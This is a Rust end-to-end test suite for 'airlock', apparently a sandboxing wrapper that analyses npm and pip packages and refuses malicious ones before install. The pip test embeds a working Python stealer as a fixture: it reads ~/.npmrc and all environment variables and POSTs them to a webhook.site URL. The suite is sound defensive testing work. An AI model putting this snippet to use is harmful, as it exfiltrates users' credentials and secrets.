//! End-to-end tests of `airlock npm install|ci`: real npm resolving against a registry
//! the test serves on loopback, real sandbox analyses, a real install at the end. They
//! prove the wrapper's promises: a tree with a malicious package anywhere is refused
//! with the package, its dependency path and findings, and the project is left exactly
//! as it was; a clean tree installs exactly what plain npm installs; verdicts are
//! cached, so a second run (or `--offline`) analyzes nothing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod localreg;

use std::path::Path;
use std::process::Output;

use common::*;
use localreg::*;

fn write_project(dir: &Path, deps: serde_json::Value) {
    std::fs::create_dir_all(dir).unwrap();
    let pj = serde_json::json!({
        "name": "victim-app",
        "version": "1.0.0",
        "private": true,
        "dependencies": deps,
    });
    std::fs::write(
        dir.join("package.json"),
        serde_json::to_vec_pretty(&pj).unwrap(),
    )
    .unwrap();
}

/// `airlock npm <airlock flags> <npm args>` in `project`, with npm pointed at the
/// loopback registry.
fn airlock_npm(
    reg: &Registry,
    home: &Path,
    project: &Path,
    flags: &[&str],
    npm: &[&str],
) -> Output {
    require_docker();
    let mut c = airlock();
    c.current_dir(project)
        .env_remove("CI")
        .arg("npm")
        .args(flags)
        .args(npm);
    for (k, v) in npm_env(&reg.url, home) {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn plain_npm(reg: &Registry, home: &Path, project: &Path, args: &[&str]) {
    let mut c = std::process::Command::new("npm");
    c.current_dir(project).args(args);
    for (k, v) in npm_env(&reg.url, home) {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    assert!(
        out.status.success(),
        "plain npm {args:?} failed:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn packages_dir() -> std::path::PathBuf {
    repo().join("tests/packages")
}

#[test]
fn malicious_dependency_is_refused_and_project_untouched() {
    let reg = Registry::start();
    let stealer = pack(&packages_dir().join("wrap-npmrc-stealer"), |_| {});
    let app = pack(&packages_dir().join("wrap-clean-app"), |_| {});
    reg.publish(&stealer);
    reg.publish(&app);
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store.sqlite3");
    let project = tmp.path().join("project");
    write_project(&project, serde_json::json!({ "wrap-clean-app": "^1.0.0" }));
    std::fs::write(project.join("index.js"), "require('wrap-clean-app');\n").unwrap();
    // A project config that keeps `resolved` out of lockfiles: the wrapper must still
    // find every package (in the configured registry).
    std::fs::write(
        project.join(".npmrc"),
        "omit-lockfile-registry-resolved=true\n",
    )
    .unwrap();
    let before = tree_hashes(&project);

    let out = airlock_npm(
        &reg,
        tmp.path(),
        &project,
        &[
            "--store",
            store.to_str().unwrap(),
            "--json",
            "--concurrency",
            "2",
        ],
        &["install"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(1),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    // The human explanation: which package, via which path, and why.
    assert!(
        stderr.contains("MALICIOUS wrap-npmrc-stealer@1.0.0"),
        "{stderr}"
    );
    assert!(
        stderr.contains("via victim-app > wrap-clean-app > wrap-npmrc-stealer"),
        "{stderr}"
    );
    assert!(stderr.contains("nothing was installed"), "{stderr}");
    // The JSON summary says the same.
    let s: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(s["decision"], "refused");
    assert_eq!(s["installed"], false);
    let pkgs = s["packages"].as_array().unwrap();
    assert_eq!(pkgs.len(), 2, "{pkgs:#?}");
    let evil = pkgs
        .iter()
        .find(|p| p["name"] == "wrap-npmrc-stealer")
        .unwrap();
    assert_eq!(evil["verdict"], "malicious", "{evil:#}");
    assert_eq!(evil["from"], "analysis");
    assert_eq!(evil["hash"], stealer.integrity());
    assert_eq!(
        evil["path"],
        serde_json::json!(["victim-app", "wrap-clean-app", "wrap-npmrc-stealer"])
    );
    assert!(!evil["findings"].as_array().unwrap().is_empty(), "{evil:#}");
    let clean = pkgs.iter().find(|p| p["name"] == "wrap-clean-app").unwrap();
    assert_eq!(clean["verdict"], "benign", "{clean:#}");
    // Nothing in the project changed: same files, same bytes, no lockfile, no node_modules.
    assert_eq!(tree_hashes(&project), before);
    assert!(!project.join("node_modules").exists());
    assert!(!project.join("package-lock.json").exists());
    // No sandbox left behind.
    assert!(airlock_containers()
        .iter()
        .all(|c| !c.contains(&format!(" {}", std::process::id()))));

    // Second run, offline: both verdicts come from the store; still refused, still untouched.
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &project,
        &["--store", store.to_str().unwrap(), "--json", "--offline"],
        &["install"],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let s: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    for p in s["packages"].as_array().unwrap() {
        assert_eq!(p["from"], "cache", "{p:#}");
    }
    let evil = s["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "wrap-npmrc-stealer")
        .unwrap();
    assert_eq!(evil["verdict"], "malicious");
    assert!(!evil["findings"].as_array().unwrap().is_empty());
    assert_eq!(tree_hashes(&project), before);

    // Project waivers (issue 14): the project's airlock.toml waives one rule that fired
    // for the stealer but leaves a proof standing; the wrapper re-judges the cached trace
    // with it, lists the waived finding, and still refuses. (`--ignore-scripts` keeps
    // npm from running any script even if a mistake let the install through.)
    let shown = airlock()
        .args(["cache", "show", "wrap-npmrc-stealer@1.0.0", "--json"])
        .args(["--store", store.to_str().unwrap()])
        .output()
        .unwrap();
    let shown: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    let findings = shown["report"]["findings"].as_array().unwrap().clone();
    let rule_of = |kind: &str| -> Vec<String> {
        let mut v: Vec<String> = findings
            .iter()
            .filter(|f| f["kind"] == kind)
            .map(|f| f["rule"].as_str().unwrap().to_string())
            .collect();
        v.dedup();
        v
    };
    let (proofs, signals) = (rule_of("proof"), rule_of("signal"));
    assert!(!proofs.is_empty(), "{findings:#?}");
    let waive = signals
        .first()
        .cloned()
        .or_else(|| (proofs.len() > 1).then(|| proofs[0].clone()));
    if let Some(rule) = waive {
        std::fs::write(
            project.join("airlock.toml"),
            format!(
                "[[waiver]]\nrule = \"{rule}\"\npackage = \"wrap-npmrc-stealer@1.0.0\"\n\
                 reason = \"test waiver\"\nexpires = 2099-01-01\n"
            ),
        )
        .unwrap();
        let out = airlock_npm(
            &reg,
            tmp.path(),
            &project,
            &["--store", store.to_str().unwrap(), "--json", "--offline"],
            &["install", "--ignore-scripts"],
        );
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let evil = s["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == "wrap-npmrc-stealer")
            .unwrap();
        assert_eq!(evil["verdict"], "malicious", "{evil:#}");
        let waived = evil["waived"].as_array().unwrap();
        assert!(
            waived.iter().any(|w| w
                .as_str()
                .unwrap()
                .starts_with(&format!("{rule}: test waiver"))),
            "{evil:#}"
        );
        assert!(!project.join("node_modules").exists());
    }
    // A broken waiver file is a tool error before anything is analyzed or installed.
    std::fs::write(project.join("airlock.toml"), "[[waiver]]\nrule = 1\n").unwrap();
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &project,
        &["--store", store.to_str().unwrap(), "--offline"],
        &["install", "--ignore-scripts"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("airlock.toml"), "{stderr}");
    std::fs::remove_file(project.join("airlock.toml")).unwrap();
    assert_eq!(tree_hashes(&project), before);

    // The store knows it: `airlock cache ls/show`.
    let out = airlock()
        .args([
            "cache",
            "--store",
            store.to_str().unwrap(),
            "ls",
            "--verdict",
            "malicious",
            "--json",
        ])
        .output()
        .unwrap();
    let ls: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(ls.as_array().unwrap().len(), 1, "{ls:#}");
    assert_eq!(ls[0]["artifact"]["name"], "wrap-npmrc-stealer");
    let out = airlock()
        .args([
            "cache",
            "--store",
            store.to_str().unwrap(),
            "show",
            "wrap-npmrc-stealer@1.0.0",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("MALICIOUS"));

    // `airlock rejudge`: under a ruleset without the rules that fired, the stored traces
    // are judged again (no sandbox) and the stealer's verdict drops.
    let out = airlock()
        .args(["cache", "show", "wrap-npmrc-stealer@1.0.0", "--json"])
        .args(["--store", store.to_str().unwrap()])
        .output()
        .unwrap();
    let detail: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let fired: Vec<String> = detail["report"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect();
    let rules = tmp.path().join("rules");
    copy_dir(&repo().join("rules"), &rules);
    let mut removed = 0;
    for f in walk_files(&rules) {
        let stem = f.file_stem().unwrap().to_string_lossy().into_owned();
        if f.extension().is_some_and(|e| e == "toml") && fired.contains(&stem) {
            std::fs::remove_file(&f).unwrap();
            removed += 1;
        }
    }
    assert!(removed > 0, "no rule file found for {fired:?}");
    let rejudge = |rules: &Path| {
        let out = airlock()
            .args([
                "rejudge",
                "--store",
                store.to_str().unwrap(),
                "--json",
                "--rules",
            ])
            .arg(rules)
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let r = rejudge(&rules);
    assert_eq!(r["rejudged"], 2, "{r:#}");
    let changed = r["changed"].as_array().unwrap();
    let stealer_change = changed
        .iter()
        .find(|c| c["name"] == "wrap-npmrc-stealer")
        .unwrap_or_else(|| panic!("{r:#}"));
    assert_eq!(stealer_change["before"], "malicious");
    assert_ne!(stealer_change["after"], "malicious");
    // Already judged under that ruleset: nothing left to do.
    assert_eq!(rejudge(&rules)["rejudged"], 0);
}

fn walk_files(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk_files(&p));
        } else {
            out.push(p);
        }
    }
    out
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let p = e.unwrap().path();
        let dest = to.join(p.file_name().unwrap());
        if p.is_dir() {
            copy_dir(&p, &dest);
        } else {
            std::fs::copy(&p, &dest).unwrap();
        }
    }
}

#[test]
fn clean_project_installs_exactly_like_plain_npm() {
    let reg = Registry::start();
    let plain = pack(&repo().join("examples/benign/plain-lib"), |_| {});
    let helper = pack(&packages_dir().join("wrap-helper"), |_| {});
    let extra = pack(&repo().join("examples/benign/plain-lib"), |m| {
        m["name"] = "wrap-extra".into();
        m["version"] = "2.1.0".into();
    });
    for p in [&plain, &helper, &extra] {
        reg.publish(p);
    }
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store.sqlite3");
    let (a, b) = (tmp.path().join("a/app"), tmp.path().join("b/app"));
    for d in [&a, &b] {
        write_project(d, serde_json::json!({ "wrap-helper": "^1.0.0" }));
    }

    // A: plain npm. B: through airlock (analyzes wrap-helper and plain-lib, then npm ci).
    plain_npm(&reg, tmp.path(), &a, &["install"]);
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &b,
        &["--store", store.to_str().unwrap()],
        &["install"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("2 package(s): 0 from the verdict cache, 2 analyzed; 2 benign"),
        "{stderr}"
    );
    assert_eq!(
        tree_hashes(&a.join("node_modules")),
        tree_hashes(&b.join("node_modules"))
    );
    assert!(b.join("node_modules/plain-lib/index.js").is_file());
    assert_eq!(
        std::fs::read(a.join("package-lock.json")).unwrap(),
        std::fs::read(b.join("package-lock.json")).unwrap()
    );
    assert_eq!(
        std::fs::read(a.join("package.json")).unwrap(),
        std::fs::read(b.join("package.json")).unwrap()
    );

    // Adding a package by spec: same package.json, lockfile and tree as plain npm; the
    // two already-analyzed packages come from the cache.
    plain_npm(&reg, tmp.path(), &a, &["install", "wrap-extra@^2.0.0"]);
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &b,
        &["--store", store.to_str().unwrap(), "--json"],
        &["install", "wrap-extra@^2.0.0"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(s["decision"], "clean");
    assert_eq!(s["installed"], true);
    let from = |n: &str| {
        s["packages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == n)
            .unwrap()["from"]
            .clone()
    };
    assert_eq!(from("wrap-helper"), "cache");
    assert_eq!(from("plain-lib"), "cache");
    assert_eq!(from("wrap-extra"), "analysis");
    assert_eq!(
        tree_hashes(&a.join("node_modules")),
        tree_hashes(&b.join("node_modules"))
    );
    for f in ["package.json", "package-lock.json"] {
        assert_eq!(
            std::fs::read_to_string(a.join(f)).unwrap(),
            std::fs::read_to_string(b.join(f)).unwrap(),
            "{f} differs"
        );
    }

    // `airlock npm install` with a lockfile that already pins the tree: no resolution,
    // every verdict cached, the same tree again.
    std::fs::remove_dir_all(b.join("node_modules")).unwrap();
    let lock_before = std::fs::read(b.join("package-lock.json")).unwrap();
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &b,
        &["--store", store.to_str().unwrap(), "--offline", "-v"],
        &["install"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("the lockfile already pins the tree"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read(b.join("package-lock.json")).unwrap(),
        lock_before
    );
    assert_eq!(
        tree_hashes(&a.join("node_modules")),
        tree_hashes(&b.join("node_modules"))
    );

    // `airlock npm ci` on the result: all cached, installs the same tree from scratch.
    std::fs::remove_dir_all(b.join("node_modules")).unwrap();
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &b,
        &["--store", store.to_str().unwrap(), "--offline"],
        &["ci"],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        tree_hashes(&a.join("node_modules")),
        tree_hashes(&b.join("node_modules"))
    );
}

#[test]
fn offline_miss_is_an_error_and_installs_nothing() {
    let reg = Registry::start();
    reg.publish(&pack(&repo().join("examples/benign/plain-lib"), |_| {}));
    let tmp = tempfile::tempdir().unwrap();
    let project = tmp.path().join("p");
    write_project(&project, serde_json::json!({ "plain-lib": "1.0.0" }));
    let before = tree_hashes(&project);
    let out = airlock_npm(
        &reg,
        tmp.path(),
        &project,
        &[
            "--store",
            tmp.path().join("empty.sqlite3").to_str().unwrap(),
            "--offline",
        ],
        &["install"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("no cached verdict (--offline)"), "{stderr}");
    assert_eq!(tree_hashes(&project), before);
}

#[test]
fn non_install_commands_pass_through_and_update_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let out = airlock()
        .current_dir(tmp.path())
        .env("npm_config_userconfig", tmp.path().join("npmrc"))
        .args(["npm", "config", "get", "fund"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "true");
    let out = airlock()
        .current_dir(tmp.path())
        .args(["npm", "update"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("refusing `npm update`"));
}

#[test]
fn pip_installs_clean_wheels_pinned_and_refuses_a_stealer() {
    require_docker();
    let tmp = tempfile::tempdir().unwrap();
    let (clean_file, clean) = wheel(
        tmp.path(),
        "wrap-pyclean",
        "1.0.0",
        &[],
        &[("wrap_pyclean/__init__.py", "VALUE = 42\n")],
    );
    let steal = "import os, json, urllib.request\n\
        try:\n    data = open(os.path.expanduser('~/.npmrc')).read()\nexcept OSError:\n    data = ''\n\
        try:\n    urllib.request.urlopen(urllib.request.Request('https://webhook.site/airlock-pytest', \
        data=json.dumps({'npmrc': data, 'env': dict(os.environ)}).encode(), method='POST'), timeout=5)\n\
        except Exception:\n    pass\n";
    let (evil_file, evil) = wheel(
        tmp.path(),
        "wrap-pysteal",
        "1.0.0",
        &["wrap-pyclean>=1"],
        &[("wrap_pysteal/__init__.py", steal)],
    );
    let index = simple_index(&[
        ("wrap-pyclean", clean_file, clean),
        ("wrap-pysteal", evil_file, evil),
    ]);
    let venv = tmp.path().join("venv");
    let st = std::process::Command::new("python3")
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(st.success());
    let pip = venv.join("bin/pip");
    let store = tmp.path().join("store.sqlite3");
    let run = |spec: &str| {
        airlock()
            .current_dir(tmp.path())
            .env_remove("CI")
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("PIP_CACHE_DIR", tmp.path().join("pip-cache"))
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .args([
                "pip",
                "--store",
                store.to_str().unwrap(),
                "--real",
                pip.to_str().unwrap(),
            ])
            .args(["--pypi-index", &index.url, "--json"])
            .args(["install", spec, "-i", &format!("{}/simple", index.url)])
            .output()
            .unwrap()
    };
    let installed = |name: &str| {
        std::process::Command::new(&pip)
            .args(["show", name])
            .output()
            .unwrap()
            .status
            .success()
    };

    let out = run("wrap-pyclean==1.0.0");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(s["installed"], true);
    assert_eq!(s["packages"][0]["verdict"], "benign", "{s:#}");
    assert!(installed("wrap-pyclean"));

    let out = run("wrap-pysteal");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("MALICIOUS wrap-pysteal==1.0.0"), "{stderr}");
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(s["decision"], "refused");
    let evil = s["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "wrap-pysteal")
        .unwrap();
    assert_eq!(
        evil["path"],
        serde_json::json!(["(requirements)", "wrap-pysteal"])
    );
    assert!(!installed("wrap-pysteal"), "nothing may be installed");
}
